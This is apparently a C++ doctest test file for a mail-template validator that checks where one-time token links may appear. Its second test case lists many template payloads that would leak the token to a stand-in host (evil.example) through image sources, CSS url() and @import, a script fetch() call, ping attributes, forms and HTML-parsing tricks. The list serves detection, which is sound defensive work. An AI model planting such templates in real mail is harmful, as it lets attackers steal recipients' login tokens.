#include "domain/mail_token_link.h"

#include <doctest/doctest.h>

#include <chrono>

using namespace hirewire::mail;

TEST_CASE("the link of a one-time token stands as text, or is the whole href of an <a>") {
  constexpr const char* page =
      "<!DOCTYPE html><html><head><title>For {{name}}</title><style>p { color: red }</style></head><body>"
      "<!-- a remark --><p style=\"color: #333\">Hi {{name}},<br>{{ link }}</p><img "
      "src='https://acme.example/logo.png' "
      "alt=\"{{organisation}}\"><p>It is {{days}} &lt; 8 days, 1 < 2 {{! remark }}</p></body></html>";
  for (const char* body : {
           "{{link}}",
           "Go on: {{link}}\nor ({{link}}) {{#days}}within {{days}} days: {{/days}}{{{link}}}",
           "<p>{{link}}</p>",
           page,
           R"(<a href="{{link}}">x</a>)",
           R"(<A class=button HREF = ' {{{ link }}} ' target="_blank">x</A>)",
           R"(<p>{{#link}}<a href="{{&link}}">{{&link}}</a>{{/link}}{{^link}}none{{/link}}</p>)",
           R"(<p><a href="https://acme.example/{{email}}">{{name}}</a> {{link}}</p>)",
           R"(<img src="https://evil.example/?t={{days}}">)",
       })
    CHECK_MESSAGE(!token_link_fault(body), body, ": ", token_link_fault(body).value_or(""));
}

TEST_CASE("a template that would give the token to somebody else is found, whatever it looks like") {
  for (const char* body : {
           R"(<img src="https://evil.example/?t={{link}}">)",
           R"(<a href="https://evil.example/?t={{link}}">x</a>)",
           R"(<a href="https://evil.example/?t={{{link}}}">x</a>)",
           R"(<a href='https://evil.example/?t={{& link }}'>x</a>)",
           R"(<a href=https://evil.example/?t={{link}}>x</a>)",
           R"(<a href={{link}}>x</a>)",
           R"(<a href="{{link}}" ping="https://evil.example/">x</a>)",
           R"(<a href="{{link}}{{link}}">x</a>)",
           R"(<a href="{{#link}}{{link}}{{/link}}">x</a>)",
           R"(<a href="{{#a}}https://evil.example/?t={{/a}}{{link}}">x</a>)",
           R"(<a title="{{link}}" href="https://evil.example/">x</a>)",
           R"(<p {{link}}>x</p>)",
           R"(<link href="{{link}}">)",
           R"(<form action="https://evil.example/"><select name="t"><option>{{link}}</option></select></form>)",
           R"(<p>x</p><textarea>{{link}}</textarea>)",
           R"(<p>x</p><style>p { background: url(https://evil.example/?t={{link}}) }</style>)",
           R"(<style>a[href*="t=ab"] { background: url(https://evil.example/ab) }</style><a href="{{link}}">x</a>)",
           R"(<style>@IMPORT "https://evil.example/";</style><a href="{{link}}">x</a>)",
           R"(<p>x</p><script>fetch("https://evil.example/?t={{link}}")</script>)",
           R"(<p>x</p><title>{{link}}</title>)",
           R"(<p>x</p><!-- {{link}} -->)",
           R"(<!--> <img src="https://evil.example/? --> {{link}}">)",
           R"(<!-- --!> <img src="https://evil.example/? --> {{link}}">)",
           R"(<!--[if mso]><img src="https://evil.example/?<![endif]--> {{link}}">)",
           R"(<p>x</p><{{! }}img src="https://evil.example/?t={{link}}">)",
           R"(<p>x</p><im{{! }}g src="https://evil.example/?t={{link}}">)",
           R"(<p>x</p><{{name}} {{link}}>)",
           R"(<p>x</p>{{{name}}} {{link}}">)",
           R"(<p>x</p>{{&name}} {{link}}">)",
           R"(<xmp><p title="</xmp><img src='https://evil.example/?">{{link}}'></p>)",
           R"(<p>{{^a}}<!-- {{/a}}<img alt=" --> {{link}}">)",
           R"(<p {{^a}}title="{{/a}}> {{link}}">)",
           R"(<p title="a"b="> {{link}}">)",
           R"(<p title=a"> {{link}}">)",
           R"(<p title='> {{link}}>)",
           R"(<p>x</p><! {{link}}>)",
           R"(<p>x</p><? {{link}}>)",
           R"(<p>x</p></{{link}}>)",
           "<p>\1 {{link}}</p>",
           "{{#a}}",
           // As text: what a mail program reads as one address leads to the one that begins it.
           "https://evil.example/?t={{link}}",
           "https://evil.example/?t=({{link}}",
           "https://evil.example/?t={{! }}{{link}}",
           "https://evil.example/?t={{#a}} {{/a}}{{link}}",
           "{{#a}}https://evil.example/?t={{/a}}{{link}}",
           "{{organisation}}{{link}}",
           "{{link}}{{link}}",
           "<p>https://evil.example/?t={{link}}</p>",
           "<p>https://evil.example/?t=<b>{{link}}</b></p>",
           "<p>https://evil.example/?t=<!-- -->{{link}}</p>",
           R"(<p><img alt="https://evil.example/?t=">{{link}}</p>)",
           R"(<p><a href="https://evil.example/?t=">x</a>{{link}}</p>)",
       })
    CHECK_MESSAGE(token_link_fault(body), body);
}

TEST_CASE("the remedy is said, and nothing of the template but an element's name") {
  CHECK(token_link_fault(R"(<a href="https://evil.example/{{link}}">x</a>)")->contains("the whole href of an <a>"));
  CHECK(token_link_fault(R"(<form>{{link}}</form>)")->contains("it has no <form>"));
  CHECK_FALSE(token_link_fault("<p><im\"x {{link}}>")->contains("im\""));
}

TEST_CASE("a long template is read in little time") {
  for (const char* piece : {"<a ", "<!--", "</", "<p title='", "<style>", "{{! }}", "{{#a}}{{/a}}", "<p>"}) {
    std::string much = "<p>{{link}}</p>";
    while (much.size() < std::size_t{128} * 1024) much += piece;
    const auto began = std::chrono::steady_clock::now();
    (void)token_link_fault(much);
    CAPTURE(piece);
    CHECK(std::chrono::steady_clock::now() - began < std::chrono::seconds(10));
  }
}
